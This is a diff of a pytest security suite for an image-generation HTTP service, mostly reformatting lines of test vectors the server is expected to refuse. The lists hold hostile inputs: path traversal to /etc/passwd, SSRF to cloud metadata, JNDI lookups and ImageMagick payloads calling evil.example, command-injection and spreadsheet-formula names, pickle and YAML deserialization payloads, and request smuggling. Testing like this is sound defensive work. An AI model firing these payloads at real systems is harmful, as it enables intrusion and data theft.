@@ -64,11 +64,16 @@ def refused(answer: Answer, *codes: int) -> None:
 # names and ids ---------------------------------------------------------------------------------------------------
 
 NAMES = [
-    "../../secret.txt", "..%2f..%2fsecret.txt", "%2e%2e/%2e%2e/secret.txt", "%252e%252e%252fsecret.txt", "....//secret.txt",
-    "..\\..\\secret.txt", "..%5c..%5csecret.txt", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "file:///etc/passwd",
-    "basecolor.png/../../../secret.txt", "basecolor.png%00.txt", "%00", "./basecolor.png", "BASECOLOR.PNG", "basecolor.png/",
-    "basecolor.png%20", "~/.bashrc", "..%c0%af..%c0%afsecret.txt", "%u002e%u002e/secret.txt", ".serve.lock", "../.serve.lock",
-    "CON", "C:%5cwindows%5cwin.ini", "a" * 5000, "%e2%80%a5/secret.txt", "%ff%fe", "*", "basecolor.png;x", "0000/basecolor.png",
+    "../../secret.txt", "..%2f..%2fsecret.txt", "%2e%2e/%2e%2e/secret.txt", "%252e%252e%252fsecret.txt",
+    "....//secret.txt",
+    "..\\..\\secret.txt", "..%5c..%5csecret.txt", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd",
+    "file:///etc/passwd",
+    "basecolor.png/../../../secret.txt", "basecolor.png%00.txt", "%00", "./basecolor.png", "BASECOLOR.PNG",
+    "basecolor.png/",
+    "basecolor.png%20", "~/.bashrc", "..%c0%af..%c0%afsecret.txt", "%u002e%u002e/secret.txt", ".serve.lock",
+    "../.serve.lock",
+    "CON", "C:%5cwindows%5cwin.ini", "a" * 5000, "%e2%80%a5/secret.txt", "%ff%fe", "*", "basecolor.png;x",
+    "0000/basecolor.png",
 ]  # fmt: skip
 
 
@@ -79,7 +84,8 @@ def test_file_names_lead_nowhere_else(live: Live, done: str, name: str) -> None:
 
 @pytest.mark.parametrize("route", ["", "/files", "/zip", "/events", "/files/basecolor.png"])
 @pytest.mark.parametrize(
-    "id", ["..", "%2e%2e", "..%2f..", NOBODY[:-1], NOBODY + "0", NOBODY, "F" * 32, "%d9%a0" * 32, NOBODY + "%0a", NOBODY + "%00",
+    "id", ["..", "%2e%2e", "..%2f..", NOBODY[:-1], NOBODY + "0", NOBODY, "F" * 32, "%d9%a0" * 32, NOBODY + "%0a",
+    NOBODY + "%00",
            "%2fetc", "-1", "null", "'%20or%201=1--", "{id}", "%24(id)"],
 )  # fmt: skip
 def test_ids_lead_nowhere_else(live: Live, id: str, route: str) -> None:
@@ -149,22 +155,27 @@ def test_links_and_odd_files_in_a_result_are_not_followed(live: Live, tmp_path: 
         change(tmp_path / "jobs" / id, tmp_path / "secret.txt")
         refused(other.ask("GET", f"/v1/jobs/{id}/files/basecolor.png"), 404)
         with other.raw() as connection:
-            connection.sendall(f"GET /v1/jobs/{id}/zip HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
+            connection.sendall(
+                f"GET /v1/jobs/{id}/zip HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
+            )
             assert SECRET.encode() not in read_all(connection)
         assert other.ask("DELETE", f"/v1/jobs/{id}").status == 204
     assert (tmp_path / "secret.txt").read_text() == SECRET  # a link goes, what it leads to stays
 
 
 def _record(id: str, **values: Any) -> dict[str, Any]:
-    return {"id": id, "state": "done", "created": 1.0, "started": 1.0, "finished": 2.0, "sample": 0, "step": 1, "steps": 1,
+    return {"id": id, "state": "done", "created": 1.0, "started": 1.0, "finished": 2.0, "sample": 0, "step": 1,
+    "steps": 1,
             "error": None, "files": {"a.png": 3}, "request": {"prompt": "oak"}} | values  # fmt: skip
 
 
 @pytest.mark.parametrize(
     "record",
     [_record(NOBODY, files={"../../secret.txt": 3}), _record(NOBODY, files={"/etc/passwd": 3}), _record("../" + NOBODY),
-     _record("1" * 32), _record(NOBODY, state="running"), _record(NOBODY, files=[1]), _record(NOBODY, request={"prompt": 1}),
-     _record(NOBODY, request={"prompt": "x", "lock": {"basecolor": 1}}), _record(NOBODY, finished="x"), _record(NOBODY, more=1),
+     _record("1" * 32), _record(NOBODY, state="running"), _record(NOBODY, files=[1]), _record(NOBODY,
+     request={"prompt": 1}),
+     _record(NOBODY, request={"prompt": "x", "lock": {"basecolor": 1}}), _record(NOBODY, finished="x"), _record(NOBODY,
+     more=1),
      _record(NOBODY, files={"a/../../x": 1}), _record(NOBODY, files={"a\\b": 1}), "[" * 100_000, "\x00\xff", [], None],
 )  # fmt: skip
 def test_forged_records_are_left_out(tmp_path: Path, record: Any) -> None:
@@ -248,7 +259,7 @@ NO_IMAGES: dict[str, Callable[[], bytes]] = {
     "pdf": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>",
     "zip": zipped,
     "pickle": lambda: pickle.dumps(Payload()),
-    "imagemagick": lambda: b'push graphic-context\nfill url(https://evil.example/x"|touch /tmp/x")\npop graphic-context',
+    "imagemagick": lambda: b'push graphic-context\nfill url(https://evil.example/x"|touch x")\npop graphic-context',
     "gif": lambda: saved("GIF"),
     "gif and script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
     "bmp": lambda: saved("BMP"),
@@ -264,8 +275,10 @@ NO_IMAGES: dict[str, Callable[[], bytes]] = {
     "declared 0x0": lambda: png(0, 0, data=zlib.compress(b"")),
     "257x256": lambda: png(257, 256, data=zlib.compress(bytes((1 + 257 * 3) * 256))),
     "compressed text": lambda: png(8, 8, chunk(b"zTXt", b"k\0\0" + deflated(300)), data=zlib.compress(bytes(25 * 8))),
-    "compressed i18n text": lambda: png(8, 8, chunk(b"iTXt", b"k\0\1\0\0\0" + deflated(300)), data=zlib.compress(bytes(200))),
-    "too many texts": lambda: png(8, 8, *[chunk(b"zTXt", b"k\0\0" + deflated(1))] * 90, data=zlib.compress(bytes(25 * 8))),
+    "compressed i18n text": lambda: png(8, 8, chunk(b"iTXt", b"k\0\1\0\0\0" + deflated(300)),
+    data=zlib.compress(bytes(200))),
+    "too many texts": lambda: png(8, 8, *[chunk(b"zTXt", b"k\0\0" + deflated(1))] * 90,
+    data=zlib.compress(bytes(25 * 8))),
     "jpeg 65000x65000": lambda: saved("JPEG").replace(b"\x00\x08\x00\x08\x03", b"\xfd\xe8\xfd\xe8\x03", 1),
     "webp 16383x16383": lambda: b"RIFF\x30\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xfe\x3f\0\xfe\x3f\0" + bytes(20),
     "animated png": lambda: frames("PNG"),
@@ -294,7 +307,11 @@ def test_what_is_no_image_here_has_no_score(live: Live, kind: str) -> None:
 @pytest.mark.parametrize("seed", range(8))
 def test_noise_that_starts_like_an_image(live: Live, seed: int) -> None:
     noise = random.Random(seed)
-    heads = (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x20\0\0\0\x20\x08\x02\0\0\0", b"\xff\xd8\xff\xe0", b"RIFF\x90\0\0\0WEBPVP8 ")
+    heads = (
+        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x20\0\0\0\x20\x08\x02\0\0\0",
+        b"\xff\xd8\xff\xe0",
+        b"RIFF\x90\0\0\0WEBPVP8 ",
+    )
     files = [(f"{i}.png", head + noise.randbytes(200)) for i, head in enumerate(heads)]
     damaged = bytearray(picture(64, "JPEG"))
     for _ in range(20):
@@ -308,7 +325,9 @@ def test_noise_that_starts_like_an_image(live: Live, seed: int) -> None:
 def test_polyglots_are_scored_and_never_given_back(live: Live, tail: bytes) -> None:
     answer = live.upload(("both.png", picture() + tail))
     assert "score" in answer.json["results"][0] and tail not in answer.body
-    assert answer.headers["content-type"] == "application/json" and answer.headers["x-content-type-options"] == "nosniff"
+    assert (
+        answer.headers["content-type"] == "application/json" and answer.headers["x-content-type-options"] == "nosniff"
+    )
 
 
 @pytest.mark.parametrize(
@@ -319,7 +338,7 @@ def test_polyglots_are_scored_and_never_given_back(live: Live, tail: bytes) -> N
 def test_forged_metadata_changes_nothing(live: Live, tmp_path: Path, text: str) -> None:
     pixels = np.random.default_rng(0).integers(0, 256, (3, 32, 32), dtype=np.uint8)
     plain = write_png(tmp_path / "plain.png", pixels, colour="srgb").read_bytes()
-    told = dict.fromkeys(("parameters", "zellige", "prompt", "workflow", "XML:com.adobe.xmp"), text)
+    told: dict[str, str] = dict.fromkeys(("parameters", "zellige", "prompt", "workflow", "XML:com.adobe.xmp"), text)
     forged = write_png(tmp_path / "forged.png", pixels, colour="srgb", text=told).read_bytes()
     first, second = live.upload(("a", plain), ("b", forged)).json["results"]
     assert second.get("score") == first["score"] or "error" in second
@@ -329,8 +348,11 @@ def test_forged_metadata_changes_nothing(live: Live, tmp_path: Path, text: str) 
 # names of uploads ------------------------------------------------------------------------------------------------
 
 UPLOADS = [
-    "../../evil.png", "..\\..\\evil.png", "/etc/cron.d/evil", "C:\\evil.png", "evil.png\x00.exe", "a\rb", "<script>alert(1)</script>.png",
-    "\u202egnp.exe", "ａ．ｐｎｇ", "a" * 3000, "", ".", "..", "CON.png", "苔.png", "\u0000", "%2e%2e%2fevil.png", "`id`.png", "$(id).png",
+    "../../evil.png", "..\\..\\evil.png", "/etc/cron.d/evil", "C:\\evil.png", "evil.png\x00.exe", "a\rb",
+    "<script>alert(1)</script>.png",
+    "\u202egnp.exe", "ａ．ｐｎｇ", "a" * 3000, "", ".", "..", "CON.png", "苔.png", "\u0000",
+    "%2e%2e%2fevil.png", "`id`.png",
+    "$(id).png",
     "=HYPERLINK(1).png", "+1+1", "-2+3", "@SUM(1)", "\t=1", "=cmd|' -C calc'!A0", "|calc", "%0a=1", " =1", "a,b\";=1",
 ]  # fmt: skip
 
@@ -347,7 +369,10 @@ def test_names_of_uploads_are_only_shown(live: Live, name: str) -> None:
         table = live.upload((sent, b"no image"), Accept="text/csv")
         (row,) = csv.DictReader(io.StringIO(table.body.decode()))
         assert row["name"].lstrip()[:1] not in ("=", "+", "-", "@", "|", "%", "\t", "\r")
-        assert table.headers["content-type"] == "text/csv; charset=utf-8" and "sandbox" in table.headers["content-security-policy"]
+        assert (
+            table.headers["content-type"] == "text/csv; charset=utf-8"
+            and "sandbox" in table.headers["content-security-policy"]
+        )
     assert answer.headers["x-content-type-options"] == "nosniff"
 
 
@@ -447,7 +472,8 @@ def test_a_kept_connection_that_starts_again_slowly_is_closed(live: Live, monkey
 
 @pytest.mark.parametrize(
     "data",
-    [b"\x00" * 100, b"\x16\x03\x01\x02\x00\x01\x00" + bytes(200), b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"SSH-2.0-x\r\n",
+    [b"\x00" * 100, b"\x16\x03\x01\x02\x00\x01\x00" + bytes(200), b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
+    b"SSH-2.0-x\r\n",
      b"GET / HTTP/1.1\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
      head("/v1/jobs", "Content-Length: -1"), head("/v1/jobs", "Content-Length: 5", "Content-Length: 6") + b"{}",
      head("/v1/jobs", "Content-Length: 0x10"), head("/v1/jobs", "Transfer-Encoding: chunked") + b"zz\r\n",
@@ -463,7 +489,12 @@ def test_what_is_no_http_is_refused(live: Live, data: bytes) -> None:
 
 def test_a_second_request_cannot_hide_in_the_first(live: Live) -> None:
     inner = head("/v1/jobs/" + NOBODY, method="DELETE")
-    told = exchange(live, head("/healthz", f"Content-Length: {len(inner)}", "Transfer-Encoding: chunked", method="GET") + b"0\r\n\r\n" + inner)
+    told = exchange(
+        live,
+        head("/healthz", f"Content-Length: {len(inner)}", "Transfer-Encoding: chunked", method="GET")
+        + b"0\r\n\r\n"
+        + inner,
+    )
     assert told.startswith(b"HTTP/1.1 4") or told.count(b"HTTP/1.1 ") <= 2
     assert b" 204 " not in told
 
@@ -471,10 +502,13 @@ def test_a_second_request_cannot_hide_in_the_first(live: Live) -> None:
 # JSON ------------------------------------------------------------------------------------------------------------
 
 BODIES = [
-    b"", b"{", b"[]", b"null", b"1", b'"oak"', b"{}", b"[" * 100_000, b'{"prompt":' * 20_000, b"\xff\xfe{\0}\0", b"\xef\xbb\xbf{}",
+    b"", b"{", b"[]", b"null", b"1", b'"oak"', b"{}", b"[" * 100_000, b'{"prompt":' * 20_000, b"\xff\xfe{\0}\0",
+    b"\xef\xbb\xbf{}",
     b'{"prompt": "\xff"}', b'{"prompt": "oak", "seed": ' + b"9" * 5000 + b"}", b'{"prompt": "oak", "seed": 1e999}',
-    b'{"prompt": "oak", "scale": NaN}', b'{"prompt": "oak", "guidance": Infinity}', b'{"prompt": "a\\ud800b"}', b'{"prompt": "a\\u0000b"}',
-    b'{"\\ud800": 1, "prompt": "oak"}', b"--x\r\n\r\n--x--", b"prompt=oak", b"<xml/>", b"!!python/object/apply:os.system [id]",
+    b'{"prompt": "oak", "scale": NaN}', b'{"prompt": "oak", "guidance": Infinity}', b'{"prompt": "a\\ud800b"}',
+    b'{"prompt": "a\\u0000b"}',
+    b'{"\\ud800": 1, "prompt": "oak"}', b"--x\r\n\r\n--x--", b"prompt=oak", b"<xml/>",
+    b"!!python/object/apply:os.system [id]",
     b'{"prompt": "' + b"a" * 200_000 + b'"}',
 ]  # fmt: skip
 
@@ -488,14 +522,22 @@ def test_what_is_no_request_is_refused(live: Live, path: str, place: int) -> Non
 
 
 FIELDS: list[dict[str, Any]] = [
-    {"pipeline": "x"}, {"custom_pipeline": "evil/repo"}, {"trust_remote_code": True}, {"__class__": "x"}, {"out": "/etc"}, {"device": "cuda"},
-    {"overwrite": True}, {"id": "../x"}, {"kind": "upscale"}, {"image": "file:///etc/passwd"}, {"image_url": "http://169.254.169.254/"},
-    {"lock": {"basecolor": "/etc/passwd"}}, {"lock": {"basecolor": "http://evil.example/x.png"}}, {"lock": {"normal": "../secret.txt"}},
-    {"lock": {"roughness": "secret.txt"}}, {"lock": {"height": "file:///etc/passwd"}}, {"lock": {"basecolor": "#12345"}}, {"lock": {"roughness": 2}},
-    {"lock": [["basecolor", "x"]]}, {"lock": {"__proto__": 1}}, {"lock": "x"}, {"size": "0x0"}, {"size": [512, 512]}, {"size": "-1x5"}, {"size": "5"},
-    {"size": "1e3x1e3"}, {"size": "٥x٥"}, {"size": "8x8\n"}, {"seed": -1}, {"seed": 2**63}, {"seed": True}, {"seed": "7"}, {"seed": 1.5},
-    {"count": 0}, {"count": 10**9}, {"count": True}, {"steps": 0}, {"steps": 10**9}, {"guidance": -1}, {"guidance": "x"}, {"scale": 2},
-    {"seamless": "yx"}, {"height_format": "../exr"}, {"strip_metadata": "yes"}, {"prompt": {"a": 1}}, {"prompt": ["oak"]}, {"prompt": "\x1b[2J"},
+    {"pipeline": "x"}, {"custom_pipeline": "evil/repo"}, {"trust_remote_code": True}, {"__class__": "x"},
+    {"out": "/etc"}, {"device": "cuda"},
+    {"overwrite": True}, {"id": "../x"}, {"kind": "upscale"}, {"image": "file:///etc/passwd"},
+    {"image_url": "http://169.254.169.254/"},
+    {"lock": {"basecolor": "/etc/passwd"}}, {"lock": {"basecolor": "http://evil.example/x.png"}},
+    {"lock": {"normal": "../secret.txt"}},
+    {"lock": {"roughness": "secret.txt"}}, {"lock": {"height": "file:///etc/passwd"}},
+    {"lock": {"basecolor": "#12345"}}, {"lock": {"roughness": 2}},
+    {"lock": [["basecolor", "x"]]}, {"lock": {"__proto__": 1}}, {"lock": "x"}, {"size": "0x0"}, {"size": [512, 512]},
+    {"size": "-1x5"}, {"size": "5"},
+    {"size": "1e3x1e3"}, {"size": "٥x٥"}, {"size": "8x8\n"}, {"seed": -1}, {"seed": 2**63}, {"seed": True},
+    {"seed": "7"}, {"seed": 1.5},
+    {"count": 0}, {"count": 10**9}, {"count": True}, {"steps": 0}, {"steps": 10**9}, {"guidance": -1},
+    {"guidance": "x"}, {"scale": 2},
+    {"seamless": "yx"}, {"height_format": "../exr"}, {"strip_metadata": "yes"}, {"prompt": {"a": 1}},
+    {"prompt": ["oak"]}, {"prompt": "\x1b[2J"},
     {"prompt": " \u3000 "}, {"prompt": "x" * 2001}, {"model": ""}, {"model": 7}, {"model": {"path": "/etc"}},
 ]  # fmt: skip
 
@@ -503,15 +545,18 @@ FIELDS: list[dict[str, Any]] = [
 @pytest.mark.parametrize("values", FIELDS, ids=lambda values: json.dumps(values)[:40])
 def test_fields_out_of_range_are_refused(live: Live, values: dict[str, Any]) -> None:
     before = len(live.pipeline.calls)
-    refused(live.ask("POST", "/v1/jobs", **({"prompt": "oak", "size": "8x8"} | values)), 413, 422)
+    body = json.dumps({"prompt": "oak", "size": "8x8"} | values).encode()
+    refused(live.ask("POST", "/v1/jobs", body, {"Content-Type": "application/json"}), 413, 422)
     assert len(live.pipeline.calls) == before
 
 
 @pytest.mark.parametrize("path", ["/v1/jobs", "/v1/images/generations"])
 @pytest.mark.parametrize(
     "model",
-    ["/etc/passwd", "../../secret.txt", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "https://evil.example/x.safetensors",
-     "evil/repo", "hf://evil/repo", "//evil.example/share", "\\\\evil.example\\share", "zellige/../x", "zellige\u0000", "ZELLIGE", ".", "~"],
+    ["/etc/passwd", "../../secret.txt", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
+    "https://evil.example/x.safetensors",
+     "evil/repo", "hf://evil/repo", "//evil.example/share", "\\\\evil.example\\share", "zellige/../x", "zellige\u0000",
+     "ZELLIGE", ".", "~"],
 )  # fmt: skip
 def test_models_are_names_and_no_places(live: Live, path: str, model: str) -> None:
     before = len(live.pipeline.calls)
@@ -523,8 +568,10 @@ def test_models_are_names_and_no_places(live: Live, path: str, model: str) -> No
 # prompts ---------------------------------------------------------------------------------------------------------
 
 PROMPTS = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/x}", "$(touch x)", "'; DROP TABLE jobs; --",
-    "%s%n%x", "../../../etc/passwd", '<sd_cpp_extra_args>{"steps": 1}</sd_cpp_extra_args>', "=cmd|' /C calc'!A0", "\u202eoak\u2066", "苔むした壁 🧱",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/x}",
+    "$(touch x)", "'; DROP TABLE jobs; --",
+    "%s%n%x", "../../../etc/passwd", '<sd_cpp_extra_args>{"steps": 1}</sd_cpp_extra_args>', "=cmd|' /C calc'!A0",
+    "\u202eoak\u2066", "苔むした壁 🧱",
     "data: x\n\nevent: done\nid: 5", "Negative prompt: x\nSteps: 1, Seed: 1, Size: 1x1", "]]><x/>", "\u2028\u2029",
 ]  # fmt: skip
 
@@ -577,7 +624,9 @@ def test_a_flood_of_requests_is_held_at_the_rate(tmp_path: Path) -> None:
         found: list[int] = []
         began = time.monotonic()
         threads = [
-            threading.Thread(target=lambda: found.extend(live.ask("GET", f"/v1/jobs/{NOBODY}").status for _ in range(25)))
+            threading.Thread(
+                target=lambda: found.extend(live.ask("GET", f"/v1/jobs/{NOBODY}").status for _ in range(25))
+            )
             for _ in range(8)
         ]
         for thread in threads:
@@ -649,12 +698,17 @@ def test_forms_of_a_thousand_parts(live: Live, count: int) -> None:
 @pytest.mark.parametrize(
     ("body", "kind"),
     [
-        (b"--x\r\n", "multipart/form-data; boundary=x"), (b"", "multipart/form-data"), (b"", "multipart/form-data; boundary="),
-        (b"x" * 1000, "multipart/form-data; boundary=x"), (b"--x\r\nContent-Disposition: form-data\r\n\r\nx\r\n--x--\r\n", "multipart/form-data; boundary=x"),
+        (b"--x\r\n", "multipart/form-data; boundary=x"), (b"", "multipart/form-data"), (b"",
+        "multipart/form-data; boundary="),
+        (b"x" * 1000, "multipart/form-data; boundary=x"),
+        (b"--x\r\nContent-Disposition: form-data\r\n\r\nx\r\n--x--\r\n", "multipart/form-data; boundary=x"),
         (b"--x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n\r\n--x--\r\n", "multipart/form-data; boundary=x"),
-        (b"--x\r\nContent-Disposition: form-data; name=files; filename*=utf-16''%ff%fe\r\n\r\nx\r\n--x--\r\n", "multipart/form-data; boundary=x"),
-        (b"--x\r\nContent-Disposition: form-data; name=\"files\"; filename=\"" + b"a" * 300_000 + b"\"\r\n\r\nx\r\n--x--\r\n", "multipart/form-data; boundary=x"),
-        (b"--" + b"b" * 80_000 + b"\r\n", "multipart/form-data; boundary=" + "b" * 10_000), (b"--x--\r\n", "multipart/form-data; boundary=x; charset=nonsense"),
+        (b"--x\r\nContent-Disposition: form-data; name=files; filename*=utf-16''%ff%fe\r\n\r\nx\r\n--x--\r\n",
+        "multipart/form-data; boundary=x"),
+        (b'--x\r\nContent-Disposition: form-data; name="files"; filename="' + b"a" * 300_000 + b'"\r\n\r\n--x--\r\n',
+         "multipart/form-data; boundary=x"),
+        (b"--" + b"b" * 80_000 + b"\r\n", "multipart/form-data; boundary=" + "b" * 10_000), (b"--x--\r\n",
+        "multipart/form-data; boundary=x; charset=nonsense"),
         (b"a=1&b=2", "application/x-www-form-urlencoded"), (b"--x\r\n\r\n", "multipart/mixed; boundary=x"),
     ],
     ids=range(12),
